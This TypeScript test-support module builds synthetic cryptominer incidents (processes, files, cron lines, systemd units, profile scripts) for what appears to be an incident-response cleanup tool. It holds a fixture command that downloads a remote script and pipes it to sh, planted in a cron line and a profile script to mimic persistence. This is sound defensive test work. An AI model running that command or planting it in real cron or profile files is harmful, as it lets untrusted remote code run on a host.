import { autostart, crontab, elf, file, hashOf, identityOf, process } from '../../test/shared/snapshots.ts';
import { targetId } from '../digest.ts';
import type { TargetIdentity } from '../plan.ts';
import { show } from '../show.ts';
import type { PersistenceEntry, Snapshot } from '../snapshot.ts';
import type { Outcome } from '../targets/outcome.ts';
import type { LinkGraph } from '../verdict/judgement.ts';
import { noLinks } from '../verdict/judgement.ts';
import type { Offer } from './answer.ts';
import type { Place } from './sight.ts';

/** A thing of a generated incident: what it is, what was asked and answered, and what the last look finds at its place. */
export interface Piece {
  readonly kind:
    | 'process'
    | 'file'
    | 'config'
    | 'cron-line'
    | 'cron-file'
    | 'unit'
    | 'fetch-line'
    | 'fetch-profile';
  readonly linked: boolean;
  readonly offered: 'no' | 'ticked' | 'unticked';
  readonly answer: 'approved' | 'left-out' | 'rejected' | 'expired' | 'superseded' | 'not-theirs';
  readonly outcome: Outcome;
  readonly fate: 'there' | 'gone' | 'unseen';
}

const FETCH = 'curl -fsSL http://203.0.113.9:8443/i.sh | sh';
const steps = {
  process: 'kill-processes',
  file: 'delete-files',
  config: 'delete-files',
  'cron-line': 'remove-cron-entries',
  'fetch-line': 'remove-cron-entries',
  'cron-file': 'remove-cron-entries',
  unit: null,
  'fetch-profile': null,
} as const;

const entry = (path: string, text: string): PersistenceEntry => autostart(path, text, { sha256: null });

const placeOf = (at: number, { kind }: Piece): string =>
  ({
    process: `pid ${1000 + at} (/tmp/p${at})`,
    file: `/opt/f${at}`,
    config: `/opt/c${at}/config.json`,
    'cron-line': `/etc/cron.d/l${at} line 1`,
    'fetch-line': `/etc/cron.d/l${at} line 1`,
    'cron-file': `/etc/cron.daily/d${at}`,
    unit: `/etc/systemd/system/u${at}.service`,
    'fetch-profile': `/etc/profile.d/${at}.sh`,
  })[kind];

interface Parts {
  processes: Snapshot['processes'][number][];
  files: Snapshot['files'][number][];
  cronFiles: Snapshot['cronFiles'][number][];
  persistence: PersistenceEntry[];
}
const noParts = (): Parts => ({ processes: [], files: [], cronFiles: [], persistence: [] });

/** What a survey sees of a piece. */
function parts(at: number, { kind }: Piece): Parts {
  const line = `* * * * * root ${kind === 'fetch-line' ? FETCH : `/opt/f${at}`} # ${at}`;
  switch (kind) {
    case 'process':
      return { ...noParts(), processes: [process({ pid: 1000 + at, exe: `/tmp/p${at}` })] };
    case 'file':
      return { ...noParts(), files: [elf(`/opt/f${at}`)] };
    case 'config':
      return {
        ...noParts(),
        files: [
          file(`/opt/c${at}/config.json`, `{"pool":${at}}`, {
            identity: { ...identityOf('x', 9), mode: '0644' },
          }),
        ],
      };
    case 'cron-line':
    case 'fetch-line':
      return { ...noParts(), cronFiles: [crontab(`/etc/cron.d/l${at}`, [line], 'cron.d')] };
    case 'cron-file':
      return {
        ...noParts(),
        cronFiles: [crontab(`/etc/cron.daily/d${at}`, [`#!/bin/sh ${at}`], 'periodic')],
      };
    case 'unit': {
      const path = `/etc/systemd/system/u${at}.service`;
      return {
        ...noParts(),
        persistence: [entry(path, `[Service]\nExecStart=/opt/f${at}\n`)],
      };
    }
    case 'fetch-profile':
      return {
        ...noParts(),
        persistence: [entry(`/etc/profile.d/${at}.sh`, `alias ll='ls -l'\n${FETCH}\n`)],
      };
  }
}

/** The same as it is when it is gone, or when its place could not be seen. */
function after(at: number, piece: Piece): Parts {
  if (piece.fate === 'there' && piece.kind !== 'file') return parts(at, piece);
  const none = noParts();
  if (piece.fate !== 'unseen') return none;
  const [cron] = parts(at, piece).cronFiles;
  const [starter] = parts(at, piece).persistence;
  return {
    ...none,
    cronFiles:
      cron === undefined || piece.kind === 'cron-file' ? [] : [{ ...cron, lines: [], truncated: true }],
    persistence: starter === undefined ? [] : [{ ...starter, text: show('# cut'), truncated: true }],
  };
}

/** Whether a place of this kind can be unseen on its own; a process or a whole cron file is unseen with its whole list only. */
const fateOf = (piece: Piece): Piece['fate'] =>
  piece.fate === 'unseen' && (piece.kind === 'process' || piece.kind === 'cron-file') ? 'there' : piece.fate;

export const normal = (pieces: readonly Piece[]): Piece[] =>
  pieces.map((piece) => ({
    ...piece,
    fate: fateOf(piece),
    linked: piece.kind.startsWith('fetch') ? false : piece.linked,
    offered: steps[piece.kind] === null ? 'no' : piece.offered,
  }));

const collect = (list: readonly Parts[]): Parts => ({
  processes: list.flatMap((one) => one.processes),
  files: list.flatMap((one) => one.files),
  cronFiles: list.flatMap((one) => one.cronFiles),
  persistence: list.flatMap((one) => one.persistence),
});

export const before = (pieces: readonly Piece[]): Parts =>
  collect(pieces.map((piece, at) => parts(at, piece)));
export const afterAll = (pieces: readonly Piece[]): Parts =>
  collect(pieces.map((piece, at) => after(at, piece)));

/** What was asked at the places of files. */
export function placesOf(pieces: readonly Piece[]): Map<string, Place> {
  const places = new Map<string, Place>();
  for (const [at, piece] of pieces.entries()) {
    for (const { path, identity } of parts(at, piece).files) {
      if (piece.fate === 'gone') places.set(path, { is: 'absent' });
      if (piece.fate === 'there')
        places.set(path, { is: 'file', device: identity.device, inode: identity.inode, sha256: null });
    }
  }
  return places;
}

/** The links of the first survey. */
export function linksOf(pieces: readonly Piece[]): LinkGraph {
  const all = pieces.map((piece, at) => {
    const seen = parts(at, piece);
    const link = {
      why: ['it is the miner'],
      selected: piece.linked && piece.offered !== 'unticked',
      linked: piece.linked,
      kinds: ['mining' as const],
      caution: null,
    };
    return { piece, seen, link };
  });
  return {
    ...noLinks,
    processes: all.flatMap(({ seen, link }) =>
      seen.processes.map(({ pid }) => ({ ...link, pid, role: 'guard' as const })),
    ),
    files: all.flatMap(({ seen, link }) =>
      seen.files.map(({ path, identity: { device, inode } }) => ({
        ...link,
        path,
        device,
        inode,
        lines: [],
      })),
    ),
    cronLines: all.flatMap(({ seen, link, piece }) =>
      piece.kind === 'cron-file' ? [] : seen.cronFiles.map(({ path }) => ({ ...link, path, number: 1 })),
    ),
    cronFiles: all.flatMap(({ seen, link, piece }) =>
      piece.kind === 'cron-file' ? seen.cronFiles.map(({ path }) => ({ ...link, path })) : [],
    ),
    persistence: all.flatMap(({ seen, link }) =>
      link.linked ? seen.persistence.map(({ path }) => ({ ...link, path, lines: [], whole: false })) : [],
    ),
  };
}

function identityOfPiece(at: number, piece: Piece, bootId: string): TargetIdentity | undefined {
  const seen = parts(at, piece);
  const [running] = seen.processes;
  const [lying] = seen.files;
  const [cron] = seen.cronFiles;
  if (running?.image)
    return {
      kind: 'process',
      by: 'single',
      pid: running.pid,
      bootId,
      startTicks: running.startTicks,
      uid: 0,
      image: { ...running.image, sha256: hashOf('x') },
    };
  if (lying !== undefined) {
    const { path, sha256 } = lying;
    const { device, inode, size } = lying.identity;
    return { kind: 'file', path, device, inode, size, sha256: sha256 ?? hashOf('') };
  }
  if (cron === undefined) return undefined;
  const { path, identity, lines } = cron;
  const [line] = lines;
  if (piece.kind === 'cron-file') {
    const { device, inode, size } = identity;
    return { kind: 'name', type: 'file', path, device, inode, size, sha256: hashOf(path) };
  }
  return line === undefined
    ? undefined
    : { kind: 'line', path, line: line.text, lineSha256: line.sha256, occurrence: 1 };
}

/** One approval a piece that was offered. */
export function offersOf(pieces: readonly Piece[], bootId: string): Offer[] {
  return pieces.flatMap((piece, at): Offer[] => {
    const identity = identityOfPiece(at, piece, bootId);
    const step = steps[piece.kind];
    if (piece.offered === 'no' || identity === undefined || step === null) return [];
    const id = targetId(identity);
    const selected = piece.offered === 'ticked';
    const target = { id, identity, selected, risks: [] };
    const acted = piece.answer === 'approved';
    const state =
      piece.answer === 'rejected' || piece.answer === 'expired' || piece.answer === 'superseded'
        ? piece.answer
        : 'partially-approved';
    return [
      {
        step,
        round: 1,
        state,
        targets: [target],
        acted: state === 'partially-approved' ? (acted ? [id] : []) : null,
        outcomes: acted ? [{ targetId: id, outcome: piece.outcome, detail: 'seen', proof: 'looked' }] : [],
        notTheirs: new Map(piece.answer === 'not-theirs' ? [[id, 'it is ours']] : []),
      },
    ];
  });
}

export { placeOf as whereOf };
